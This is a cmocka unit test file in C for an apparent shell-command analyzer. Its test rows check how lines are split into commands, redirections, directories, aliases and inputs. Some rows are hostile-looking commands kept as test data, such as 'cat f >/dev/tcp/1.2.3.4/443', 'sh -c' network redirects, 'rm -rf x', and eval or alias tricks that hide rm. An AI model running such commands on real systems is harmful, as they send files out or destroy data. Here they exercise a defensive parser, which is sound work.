/* Lines as parts: what the grammar lists, redirections, directories, other dialects. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "tests/unit/command_rows.h"

static const struct row lists[] = {
	{ "",
	  "" },
	{ "x=1 y=2",
	  "" },
	{ "git status && rm -rf x | wc; (a; b) & { c; }",
	  "git|status @n ; rm|-rf|x @n ; wc ; a ; b ; c" },
	{ "if a; then b; elif c; then d; else e; fi; case $x in y) f;; esac",
	  "a ; b ; c ; d ; e ; f" },
	{ "f() { g \"$(h)\"; }; for i in 1 2; do j; done; while k; do l; done",
	  "g|<any> ; h ; j ; k ; l" },
	{ "echo \"$(rm x)\" `y` <(z); [[ -f a ]]; ((1))",
	  "echo|<any>|<multi>|<any> ; rm|x @n ; y ; z ; [[|-f|a|]] ; ((|<multi>" },
	{ "rm \"open; rm -rf x",
	  "! rm @n ; open ; rm|-rf|x @n" },
	{ "$\"rm\" x; p $\"a\" >$\"f\"; sh -c $\"rm x\"; sh <<< $\"rm x\"",
	  "<any>|x ; rm|x @nr ; p|<any> ; p|a @r ; file w ? <3 ; file w f <3 ; sh|-c|<any> @oinl ; "
	  "sh|-c|rm x @inr ; rm|x @nr <8 $8 ; sh @oin ; sh @inr ; rm|x @nr <11 $11" },
	{ "$X rm; \"$d\"/rm x; ~/bin/ls; /bin/r[m] x; '' a",
	  "<multi>|rm ; <any>/rm|x @n ; <home>/bin/ls ; /bin/r<glob:[m]>|x ; |a" },
};

static void test_lists(void **state)
{
	(void)state;
	check_rows(lists, sizeof(lists) / sizeof(lists[0]), "", command_text_of);
}

static const struct row redirs[] = {
	{ "a >b 2>c <d <>e >>f >|g &>h &>>i",
	  "a ; file w b <1 ; file w c <1 ; file r d <1 ; file rw e <1 ; file w f <1 ;"
	  " file w g <1 ; file w h <1 ; file w i <1" },
	{ "a 2>&1 >&2 <&3 >&- 2>&f >&f >&$x 1>&$x 2>&$x >&3-",
	  "a ; file w f <1 ; file w ? <1 ; file w ? <1" },
	{ "a >\"$x\" >~/b >~ >b* >~u/c >\"b c\" >''",
	  "a ; file w ? <1 ; file w ~/b <1 ; file w ~ <1 ; file w ? <1 ; file w ~/c <1 "
	  "; file w b c <1 ; file w  <1" },
	{ "cat f >/dev/tcp/1.2.3.4/443; cat </dev/udp/h/$p >/dev/tcp/$h/80 >/dev/tcp/"
	  "x >/dev/tcp/h/http",
	  "cat|f ; net tcp 1.2.3.4 443 <1 ; cat ; net udp h 0 <3 ; net tcp ? 0 <3 ; f"
	  "ile w /dev/tcp/x <3 ; net tcp h 0 <3" },
	{ ">f; { a; b; } >g; (c) <h; for i in 1; do d; done >j; f() { e; } >k",
	  "file w f ; a ; b ; file w g ; c ; file r h ; d ; file w j ; e ; file w k" },
	{ "a > >(b) < <(c) 2> x<(d)",
	  "a ; file w ? <1 ; b ; c ; d" },
	{ "exec 3<f >>g; cat <<E <<<x\ny\nE",
	  "exec @n ; file r f <1 ; file w g <1 ; cat" },
	{ "sh -c 'a >/dev/tcp/h/80; b &>c'",
	  "sh|-c|a >/dev/tcp/h/80; b &>c @in ; a <1 $1 ; net tcp h 80 <2 $1 ; b <1 $1"
	  " ; file w c <4 $1 ; a @r <1 $1 ; file w /dev/tcp/h/80 @r <6 $1 ; b @r <1 $"
	  "1 ; file w c @r <1 $1" },
};

static void test_redirs(void **state)
{
	(void)state;
	check_rows(redirs, sizeof(redirs) / sizeof(redirs[0]), "", command_text_of);
}

static const struct row dirs[] = {
	{ "cd src; ls >f; cd /a; ls; cd",
	  "cd|src ; ls in /w/src,/w ; file w f <2 in /w/src,/w ; cd|/a in /w/src,/w ;"
	  " ls in /a,/w/src,/w ; cd in /a,/w/src,/w" },
	{ "cd src && ls; (cd b); ls; cd ./src//; cd -P c; cd -- d",
	  "cd|src ; ls in /w/src,/w ; cd|b in /w/src,/w ; ls in /w/b,/w/src/b,/w/src,"
	  "/w ; cd|./src// in /w/b,/w/src/b,/w/src,/w ; cd|-P|c in /w/src/src,/w/src/"
	  "b/src,/w/b/src,/w/b,/w/src/b,/w/src,/w ; cd|--|d in /w/c,/w/src/c,/w/src/b"
	  "/c,/w/b/c,/w/b/src/c,/w/src/b/src/c,/w/src/src/c,/w/src/src,/w/src/b/src,/"
	  "w/b/src,/w/b,/w/src/b,/w/src,/w" },
	{ "cd ..; ls >f",
	  "cd|.. ; ls in ? ; file w f <2 in ?" },
	{ "cd \"$x\"; ls",
	  "cd|<any> ; ls in ?" },
	{ "cd -; ls",
	  "cd|- ; ls in ?" },
	{ "cd a b; ls",
	  "cd|a|b ; ls in ?" },
	{ "pushd x; ls",
	  "pushd|x ; ls in /w/x,/w" },
	{ "pushd x; popd; ls",
	  "pushd|x ; popd in /w/x,/w ; ls in /w/x,/w" },
	{ "popd; ls",
	  "popd ; ls in ?" },
	{ "pushd +1; ls",
	  "pushd|+1 ; ls in ?" },
	{ "pushd x; DIRSTACK[1]=/y; popd; ls",
	  "pushd|x ; popd in ? ; ls in ?" },
	{ "tar -C a -C b -t; tar --directory=/c -t; tar -C \"$x\" -t; ls",
	  "tar|-C|a|-C|b|-t @n in /w/b,/w/a/b,/w/a,/w ; tar|--directory=/c|-t @n in /c,/w ; "
	  "tar|-C|<any>|-t @n in ? ; ls" },
	{ "cd ~; cd ~/p; ls",
	  "cd|<home> ; cd|<home>/p in /h,/w ; ls in /h/p,/h,/w" },
	{ "a; while b; do cd /c; d; done; e",
	  "a ; b in /c,/w ; cd|/c in /c,/w ; d in /c,/w ; e in /c,/w" },
	{ "a; while b; do cd c; done; e",
	  "a ; b in ? ; cd|c in ? ; e in ?" },
	{ "f() { a; }; cd /b; f; bash -c 'g() { h; }; cd i'; j",
	  "a in /b,/w ; cd|/b ; f @v in /b,/w ; bash|-c|g() { h; }; cd i @in in /b,/w"
	  " ; h <4 $4 in ? ; cd|i <4 $4 in /b,/w ; j in /b,/w" },
	{ "cd 1;cd 2;cd 3;cd 4;cd 5;ls",
	  "cd|1 ; cd|2 in /w/1,/w ; cd|3 in /w/2,/w/1/2,/w/1,/w ; cd|4 in /w/3,/w/1/3"
	  ",/w/1/2/3,/w/2/3,/w/2,/w/1/2,/w/1,/w ; cd|5 in /w/4,/w/1/4,/w/1/2/4,/w/2/4"
	  ",/w/2/3/4,/w/1/2/3/4,/w/1/3/4,/w/3/4,/w/3,/w/1/3,/w/1/2/3,/w/2/3,/w/2,/w/1"
	  "/2,/w/1,/w ; ls in ?" },
	{ "cd /a; trap 'x' EXIT; cd /b",
	  "cd|/a ; trap|x|EXIT @n in /a,/w ; x <2 in /b,/a,/w ; cd|/b in /a,/w" },
	{ "bash -c 'cd /x; y'; z",
	  "bash|-c|cd /x; y @in ; cd|/x <1 $1 ; y <1 $1 in /x,/w ; z" },
};

static void test_dirs(void **state)
{
	(void)state;
	check_rows(dirs, sizeof(dirs) / sizeof(dirs[0]), "", command_text_of);
}

static const struct row posix[] = {
	{ "eval '{rm,x}'; echo {a,b}; a &>b; cat >/dev/tcp/h/80",
	  "eval|{rm,x} @n ; {rm,x} <1 ; echo|{a,b} ; a ; file w b ; cat ; file w /dev"
	  "/tcp/h/80 <6" },
	{ "bash -c 'echo {a,b}'; alias x='rm'; x",
	  "bash|-c|echo {a,b} @in ; echo|a|b <1 $1 ; alias|x=rm ; rm @na <3 ; x @v ; rm @nr <5" },
	/* the text of an alias stands before the words of the command */
	{ "alias x='A='; x rm b",
	  "alias|x=A= ; x|rm|b @v ; rm|b @vnr <2" },
	{ "alias x='>f'; x rm b",
	  "alias|x=>f ; file w f <1 ; x|rm|b @v ; rm|b @nr <3 ; file w f @r <4" },
	{ "alias x='true;'; x rm b",
	  "alias|x=true; ; true @a <1 ; x|rm|b @v ; true @r <3 ; rm|b @nr <3" },
	{ "alias e=eval; e 'rm b'",
	  "alias|e=eval ; eval @na <1 ; e|rm b @v ; eval|rm b @nr <3 ; rm|b @nr <4" },
	{ "alias x=y y='A='; x rm b",
	  "alias|x=y|y=A= ; y @va <1 ; x|rm|b @v ; y|rm|b @vr <3 ; rm|b @vnr <4" },
	{ "alias x='echo ' y='; rm b'; x y",
	  "alias|x=echo |y=; rm b ; echo @a <1 ; unparsed @o <1 ; rm|b @na <1 ; x|y @ov ; echo @r <5 ; rm|b @nr <5" },
	{ "alias x='echo '; x rm b >f; \\x rm; 'x' rm",
	  "alias|x=echo  ; echo @a <1 ; x|rm|b @v ; echo|rm|b @r <3 ; file w f @r <4 ; file w f <3 ; x|rm @v ; x|rm @v" },
	{ "alias x='x -l'; B=1 x a",
	  "alias|x=x -l ; x|-l @va <1 ; x|a @v ; x|-l|a @vr <3" },
	{ "a >&2; printf \"$a\" \"$b\"; [ $x = 1 ]",
	  "a ; printf|<any>|<any> ; [|<multi>|=|1|]" },
};

static void test_posix(void **state)
{
	(void)state;
	check_rows(posix, sizeof(posix) / sizeof(posix[0]), "dialect posix\n", command_text_of);
}

/* What the line feeds a program that takes commands is code, whatever its operands. */
static const struct row inputs[] = {
	{ "db f; db f <x; db f <<<y; a | db f; db f | a; db f >x; db f 2>&1; a | b | db",
	  "db|f @n ; db|f @cn ; file r x <2 ; db|f @cn ; a ; db|f @cn ; db|f @n ; a ; "
	  "db|f @n ; file w x <9 ; db|f @n ; a ; b ; db @cn" },
	{ "a | (db f) | b; db f 3<x", "a ; db|f @cn ; b ; db|f @n ; file r x <4" },
};

static void test_inputs(void **state)
{
	(void)state;
	check_rows(inputs, sizeof(inputs) / sizeof(inputs[0]), "program db stdin\n",
		   command_text_of);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lists),
		cmocka_unit_test(test_redirs),
		cmocka_unit_test(test_dirs),
		cmocka_unit_test(test_posix),
		cmocka_unit_test(test_inputs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
